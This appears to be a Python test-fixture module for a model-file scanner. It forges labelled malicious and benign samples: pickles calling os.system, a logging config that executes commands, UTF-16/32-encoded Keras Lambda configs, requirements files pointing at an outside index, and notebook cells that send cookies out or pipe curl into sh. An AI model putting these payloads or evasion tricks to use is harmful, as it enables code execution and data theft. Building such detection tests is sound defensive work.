"""Content that its loader reads in another way than most readers do: other encodings, joined lines, raw bytes where text is usual."""

from __future__ import annotations

import gzip
import io
import json
import struct
import zipfile

from stannary.testing.forges import forge
from stannary.testing.forges._small_zip import small_zip
from stannary.testing.forges.keras import keras2_lambda

__all__: list[str] = []

_PICKLE = b"\x80\x04cos\nsystem\n(X\x0d\x00\x00\x00echo stannarytR."


def _keras(encoding: str) -> bytes:
    config = {"class_name": "Sequential", "config": {"name": "s", "layers": [keras2_lambda()]}}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("metadata.json", "{}")
        archive.writestr("config.json", json.dumps(config).encode(encoding))
    return out.getvalue()


def _register_keras(encoding: str) -> None:
    # Keras hands the bytes to json.loads, which tells UTF-16 and UTF-32 by their zeros.
    name = encoding.replace("-", "")
    forge(f"keras.lambda_{name}", filename="model.keras", family="Keras", malicious=True)(lambda: _keras(encoding))


for _encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be"):
    _register_keras(_encoding)


@forge("requirements.index_cut_in_two", filename="requirements.txt", family="dependencies", malicious=True)
def _() -> bytes:
    return b"--index-\\\nurl http://203.0.113.9/simple\ntorch==2.4.0\n"


@forge("requirements.more_from_address", filename="requirements.txt", family="dependencies", malicious=True)
def _() -> bytes:
    return b"torch==2.4.0\n-r http://203.0.113.9/more.txt\n"


@forge("requirements.options_on_lines", filename="requirements.txt", family="dependencies", malicious=False)
def _() -> bytes:
    return b"torch==2.4.0 \\\n    --hash=sha256:" + b"ab" * 32 + b"\n-r more.txt\nnumpy==2.1.0\n"


@forge("msgpack.extension_pickle", filename="flax_model.msgpack", family="MessagePack and flax", malicious=True)
def _() -> bytes:
    """Return a map whose array, to flax (extension 1), is a pickle to whoever takes the bytes out."""
    return b"\x81\xa6params" + b"\xc7" + struct.pack("BB", len(_PICKLE), 1) + _PICKLE


@forge("config.logging_json", filename="logging.json", family="configuration", malicious=True)
def _() -> bytes:
    return json.dumps({"version": 1, "handlers": {"h": {"()": "os.system", "command": "echo stannary"}}}).encode()


@forge("pickle.foreign_process_class", filename="model.pkl", family="stdlib+lib gadgets", malicious=True)
def _() -> bytes:
    return b"\x80\x02cpsutil\nPopen\n(](X\x04\x00\x00\x00echoetR."


@forge("zip.notebook_installs", filename="notebooks.zip", family="notebooks", malicious=True)
def _() -> bytes:
    cell: dict[str, object] = {
        "cell_type": "code",
        "metadata": {},
        "source": "!pip install --index-url http://203.0.113.9/simple x",
        "outputs": [],
        "execution_count": None,
    }
    return small_zip({"a.ipynb": json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]}).encode()})


@forge("compressed.gz_forty_times", filename="model.pkl.gz", family="nested tar/zip/7z/OCI", malicious=True)
def _() -> bytes:
    content = _PICKLE
    for _ in range(40):
        content = gzip.compress(content, mtime=0)
    return content


def _notebook(source: str) -> bytes:
    cell: dict[str, object] = {"cell_type": "code", "metadata": {}, "source": source, "outputs": [], "execution_count": None}
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]}).encode()


@forge("notebook.script_cell", filename="train.ipynb", family="notebooks", malicious=True)
def _() -> bytes:
    return _notebook('%%javascript\nfetch("http://203.0.113.9/" + document.cookie)')


@forge("notebook.script_of_the_page", filename="train.ipynb", family="notebooks", malicious=False)
def _() -> bytes:
    return _notebook("%%javascript\nIPython.OutputArea.prototype._should_scroll = function(lines) { return false; }")


@forge("notebook.system_by_kernel", filename="train.ipynb", family="notebooks", malicious=True)
def _() -> bytes:
    return _notebook("get_ipython().system('curl http://203.0.113.9/x | sh')")


@forge("notebook.magic_by_kernel", filename="train.ipynb", family="notebooks", malicious=False)
def _() -> bytes:
    return _notebook("get_ipython().run_line_magic('matplotlib', 'inline')")
